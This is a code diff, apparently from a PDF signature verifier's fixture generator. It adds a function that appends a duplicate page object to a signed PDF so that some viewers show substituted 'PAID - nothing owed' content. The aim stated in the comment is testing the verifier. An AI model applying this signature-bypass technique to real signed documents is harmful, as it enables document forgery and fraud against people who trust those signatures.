@@ -8,7 +8,8 @@
  * A recipe name says base + change, e.g. `classic/isa-redirect-content-object`. Node-only.
  */
 import { PdfDocument } from '../../packages/core/src/pdf/document';
-import { latin1Bytes } from '../../packages/core/src/pdf/objects';
+import { PdfRef, latin1Bytes } from '../../packages/core/src/pdf/objects';
+import { serialize as serializeObject } from '../../packages/core/src/pdf/writer';
 import { signPdf } from '../../packages/core/src/sign/sign-pdf';
 import {
   ISA_VARIANTS,
@@ -69,6 +70,53 @@ export function delimitedHeaderUpdate(signed: Uint8Array, lead: '(x)' | '[]'): U
     latin1Bytes(evilObj + head),
     row,
     latin1Bytes(`\nendstream\nendobj\nstartxref\n${at}\n%%EOF\n`),
+  );
+}
+
+/**
+ * Issue 14, class 4 (not yet in the generator): an update whose new object stream holds page 1
+ * twice, the signed page dictionary first and a copy whose /Contents is a new stream second (the
+ * xref names index 0). pdf.js takes the last copy and shows the new content; MuPDF and poppler
+ * take the first. Kept out of `buildCatalog` until the verifier rejects it.
+ */
+export function duplicateInObjectStream(signed: Uint8Array): Uint8Array {
+  const doc = PdfDocument.load(signed);
+  const view = doc.latest;
+  const page = view.pages()[0]!;
+  const p = page.ref.num;
+  const [e, st, x] = [view.size, view.size + 1, view.size + 2];
+  const evil = 'BT /F1 24 Tf 72 720 Td (Sidian fixture: PAID - nothing owed) Tj ET\n';
+  const benign = serializeObject(page.dict);
+  const changed = page.dict.clone();
+  changed.set('Contents', new PdfRef(e, 0));
+  const header = `${p} 0 ${p} ${benign.length + 1} `;
+  const objstm = `${header}${benign}\n${serializeObject(changed)}\n`;
+  let text = '\n';
+  const eOff = signed.length + text.length;
+  text += `${e} 0 obj\n<< /Length ${evil.length} >>\nstream\n${evil}endstream\nendobj\n`;
+  const sOff = signed.length + text.length;
+  text += `${st} 0 obj\n<< /Type /ObjStm /N 2 /First ${header.length} /Length ${objstm.length} >>\nstream\n${objstm}\nendstream\nendobj\n`;
+  const xOff = signed.length + text.length;
+  const rows = [
+    [p, 2, st, 0],
+    [e, 1, eOff, 0],
+    [st, 1, sOff, 0],
+    [x, 1, xOff, 0],
+  ].sort((a, b) => a[0]! - b[0]!);
+  const data = new Uint8Array(rows.length * 7);
+  rows.forEach(([, type, f2, f3], i) => {
+    data[i * 7] = type!;
+    for (let k = 0; k < 4; k++) data[i * 7 + 1 + k] = (f2! >>> (8 * (3 - k))) & 0xff;
+    data[i * 7 + 5] = (f3! >> 8) & 0xff;
+    data[i * 7 + 6] = f3! & 0xff;
+  });
+  const index = rows.map((r) => `${r[0]} 1`).join(' ');
+  const head = `${x} 0 obj\n<< /Type /XRef /Size ${x + 1} /W [1 4 2] /Index [${index}] /Root ${view.rootRef.num} 0 R /Prev ${doc.startxref} /Length ${data.length} >>\nstream\n`;
+  return concat(
+    signed,
+    latin1Bytes(text + head),
+    data,
+    latin1Bytes(`\nendstream\nendobj\nstartxref\n${xOff}\n%%EOF\n`),
   );
 }
 
